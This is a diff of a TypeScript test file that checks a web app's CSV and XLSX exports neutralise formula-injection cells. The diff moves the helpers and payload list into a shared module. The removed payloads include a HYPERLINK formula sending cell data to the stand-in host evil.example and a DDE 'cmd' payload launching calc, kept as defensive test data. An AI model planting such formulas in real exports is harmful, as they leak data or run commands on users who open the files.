@@ -5,21 +5,12 @@
  */
 
 import { parse } from "csv-parse/sync";
-import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { csvLine, defuseCell } from "../http/sheet";
 import { createTestApp, type TestApp } from "../test/app";
 import { makeDepartment, makeUser } from "../test/factories";
+import { csvCells, expectDefused, PAYLOADS, xlsxCells } from "../test/formula-payloads";
 import { type AuthedClient, authed, signIn } from "../test/session";
-
-const PAYLOADS = [
-  '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  "+1+cmd|' /C calc'!A0",
-  "-2+3",
-  "@SUM(1,1)",
-  "\t=1+1",
-  "\r=1+1",
-];
 
 let t: TestApp;
 let head: AuthedClient;
@@ -55,35 +46,6 @@ beforeAll(async () => {
   }
 }, 240_000);
 afterAll(() => t?.close());
-
-/** Every cell that holds one of the payloads as its whole value is the defused text, never the raw one. */
-function expectDefused(cells: unknown[]) {
-  const raw = cells.filter((c) => PAYLOADS.includes(c as string));
-  const defused = cells.filter((c) => PAYLOADS.some((p) => c === `'${p}`));
-  expect(raw).toEqual([]);
-  expect(defused.length).toBeGreaterThan(0);
-}
-
-async function xlsxCells(res: Response): Promise<unknown[]> {
-  expect(res.status).toBe(200);
-  const wb = new ExcelJS.Workbook();
-  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
-  const cells: unknown[] = [];
-  for (const ws of wb.worksheets)
-    ws.eachRow((row) =>
-      row.eachCell((cell) => {
-        expect(cell.formula, "no cell is a formula").toBeUndefined();
-        cells.push(cell.value);
-      }),
-    );
-  return cells;
-}
-
-async function csvCells(res: Response): Promise<unknown[]> {
-  expect(res.status).toBe(200);
-  const text = (await res.text()).replace(/^\uFEFF/, "");
-  return (parse(text, { relax_column_count: true }) as string[][]).flat();
-}
 
 describe("every export defuses formula-like cells", () => {
   it("the shared writer: OWASP's list, numbers untouched", () => {
